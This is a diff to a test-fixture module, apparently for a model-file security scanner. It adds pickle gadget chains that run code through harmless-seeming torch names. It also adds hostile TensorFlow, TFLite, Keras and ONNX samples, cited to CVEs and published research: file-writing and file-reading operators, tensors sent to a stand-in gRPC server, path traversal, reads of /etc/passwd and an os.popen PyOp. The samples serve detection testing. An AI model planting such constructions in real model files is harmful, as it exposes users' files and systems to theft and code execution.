@@ -1,10 +1,27 @@
-"""Pickles that would run something, written instruction by instruction. None is ever loaded.
+"""Pickles that would run something, written instruction by instruction, and models whose operators would. None is ever loaded.
 
 What they would do is create the file CANARY; where each was published stands beside it.
 """
 
 from __future__ import annotations
 
+from tests.builders.graph_file import (
+    LAMBDA,
+    keras_metadata,
+    onnx_attribute,
+    onnx_graph,
+    onnx_model,
+    onnx_node,
+    onnx_tensor,
+    tf_graph,
+    tf_meta_graph,
+    tf_node,
+    tf_saved_model,
+    tf_strings,
+    tf_text,
+    tf_texts,
+    tflite,
+)
 from tests.builders.pickle_code import (
     APPEND,
     APPENDS,
@@ -201,6 +218,19 @@ ATTACKS |= {
     ),
 }
 
+# Steps of a pickle that runs code by harmless names alone (those of a whole one: torch.nn.ParameterDict answers with any attribute).
+_HARMLESS = "not published: harmless names alone, put together to reach others"
+_PARTS, _LSTM = "torch.nn.modules.container.ParameterDict", "torch.ao.nn.quantized.reference.modules.rnn.LSTM"
+HARMLESS_NAMES: dict[str, tuple[bytes, str, str]] = {
+    "attributes by going through a layer": (
+        proto() + call("builtins.list", instance(_PARTS, {"_keys": {"__class__": None}})) + STOP, _PARTS, _HARMLESS
+    ),
+    "a layer of another class": (proto() + built(instance(_PARTS), {"__class__": name(_LSTM)}) + STOP, _LSTM, _HARMLESS),
+    "arguments that nobody sees": (
+        proto() + name("torch._tensor._rebuild_from_type_v2") + call("builtins.tuple", instance(_PARTS)) + b"R" + STOP, _PARTS, _HARMLESS
+    ),
+}
+
 # Names that other scanners have let through, called by a pickle; (module, name, where that was published).
 LET_THROUGH = (
     ("pty", "spawn", "GHSA-r7v6-mfhq-g3m2"),
@@ -311,3 +341,84 @@ SCRIPTS = (
     "ops.aten.save(x, '/x')",
     "ops.image.read_file('/x')",
 )
+
+_ABUSE = "N. Zhu et al., My Model is Malware to You (TensorAbuse), IEEE S&P 2025"
+_WRITES = tf_node("WriteFile", name="evil")
+_OUTSIDE = {"location": f"../../{CANARY}", "offset": "0", "length": "4"}
+
+# Models whose operators, or the places of whose data, reach out of them: (name of the file, bytes, what must be told, published where).
+GRAPHS: dict[str, tuple[str, bytes, str, str]] = {
+    "WriteFile in a SavedModel": ("saved_model.pb", tf_saved_model(_WRITES), "tensorflow.WriteFile", "modelscan"),
+    "ReadFile in a function": ("saved_model.pb", tf_saved_model(functions=(tf_node("ReadFile"),)), "tensorflow.ReadFile", "modelscan"),
+    "WriteFile in a graph in a string": (
+        "saved_model.pb",
+        tf_saved_model(tf_node("Const", value=tf_strings(tf_graph(_WRITES))), tf_node("DatasetFromGraph")),
+        "tensorflow.WriteFile",
+        "huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
+    ),
+    "WriteFile in a frozen graph": ("frozen.pb", tf_graph(tf_node("Relu"), _WRITES), "tensorflow.WriteFile", "modelscan"),
+    "WriteFile in a .meta": ("model.meta", tf_meta_graph(tf_graph(_WRITES)), "tensorflow.WriteFile", "modelscan"),
+    "print to a file": (
+        "saved_model.pb",
+        tf_saved_model(tf_node("PrintV2", output_stream=tf_text(f"file://{CANARY}"))),
+        "tensorflow.PrintV2",
+        _ABUSE,
+    ),
+    "tensors to a server": (
+        "saved_model.pb",
+        tf_saved_model(tf_node("DebugIdentityV3", debug_urls=tf_texts("grpc://192.0.2.1:1"))),
+        "tensorflow.DebugIdentityV3",
+        _ABUSE,
+    ),
+    "a file as a constant": (
+        "saved_model.pb",
+        tf_saved_model(tf_node("ImmutableConst", memory_region_name=tf_text("/etc/passwd"))),
+        "tensorflow.ImmutableConst",
+        _ABUSE,
+    ),
+    "files of a folder": ("saved_model.pb", tf_saved_model(tf_node("MatchingFiles")), "tensorflow.MatchingFiles", _ABUSE),
+    "a client of the network": ("saved_model.pb", tf_saved_model(tf_node("RpcClient")), "tensorflow.RpcClient", _ABUSE),
+    "a dataset of a server": (
+        "saved_model.pb", tf_saved_model(tf_node("DataServiceDatasetV4")), "tensorflow.DataServiceDatasetV4", _ABUSE
+    ),
+    "Python by its token": (
+        "saved_model.pb",
+        tf_saved_model(tf_node("EagerPyFunc", token=tf_text("pyfunc_0"))),
+        "tensorflow.EagerPyFunc",
+        "tensorflow/python/ops/script_ops.py",
+    ),
+    "Lambda beside a SavedModel": ("keras_metadata.pb", keras_metadata(LAMBDA), "Lambda", "CVE-2024-3660; modelscan"),
+    "Lambda in a SavedModel": ("saved_model.pb", tf_saved_model(objects=(LAMBDA,)), "Lambda", "CVE-2024-3660"),
+    "an asset elsewhere": ("saved_model.pb", tf_saved_model(assets=(f"../../{CANARY}",)), CANARY, "not published"),
+    "ReadFile in TensorFlow Lite": ("model.tflite", tflite(3, "FlexReadFile"), "tensorflow.ReadFile", "not published"),
+    "data outside of the folder": (
+        "model.onnx", onnx_model(tensors=(onnx_tensor("w", _OUTSIDE),)), CANARY, "CVE-2022-25882, CVE-2024-27318"
+    ),
+    "data outside, in a graph of a node": (
+        "model.onnx",
+        onnx_model(onnx_node("If", attributes=onnx_attribute("then_branch", graph=onnx_graph(tensors=(onnx_tensor("w", _OUTSIDE),))))),
+        CANARY,
+        "CVE-2024-27318",
+    ),
+    "data at an absolute path": (
+        "model.onnx", onnx_model(tensors=(onnx_tensor("w", {"location": "/etc/passwd"}),)), "/etc/passwd", "CVE-2022-25882"
+    ),
+    "data at an address": (
+        "model.onnx",
+        onnx_model(tensors=(onnx_tensor("w", {"location": "*/_ORT_MEM_ADDR_/*", "offset": "4096", "length": "4"}),)),
+        "_ORT_MEM_ADDR_",
+        "onnxruntime/core/framework/tensorprotoutils.h",
+    ),
+    "a Python operator": (
+        "model.onnx",
+        onnx_model(onnx_node("PyOp", "pyop_1", attributes=onnx_attribute("module", text="os") + onnx_attribute("class_name", text="popen"))),
+        "pyop_1.PyOp",
+        "onnxruntime, docs/PyOp.md",
+    ),
+    "a Python function by its name": (
+        "model.onnx",
+        onnx_model(onnx_node("PythonOp", "com.microsoft", attributes=onnx_attribute("func_name", text="a.b"))),
+        "com.microsoft.PythonOp",
+        "onnxruntime, orttraining",
+    ),
+}
